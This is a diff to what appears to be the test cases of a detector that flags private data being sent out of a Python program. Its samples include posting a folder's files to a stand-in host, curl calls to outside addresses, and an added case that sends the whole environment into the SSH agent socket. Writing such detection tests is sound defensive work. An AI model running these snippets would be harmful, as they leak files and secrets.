@@ -90,6 +90,7 @@ def test_private_data_that_is_sent(trigger: str, source: str, expected: str) -> 
         ("call", "for f in os.listdir('/a'):\n    requests.post('https://h.example.invalid/', files={'f': open('/a/' + f, 'rb')})", "info"),
         ("call", "socket.gethostbyname('demo.h.example.invalid')", "none"),
         ("import", "socket.getaddrinfo('localhost', 80)", "none"),
+        ("import", "s = socket.socket(socket.AF_UNIX)\ns.connect(os.environ['SSH_AUTH_SOCK'])\ns.send(str(os.environ).encode())", "none"),
         ("import", "socket.gethostbyname(unknown)", "none"),
         ("install", "os.system('curl -O https://h.example.invalid/a.tar.gz')", "none"),
         ("call", "os.system('curl http://203.0.113.9/')", "none"),
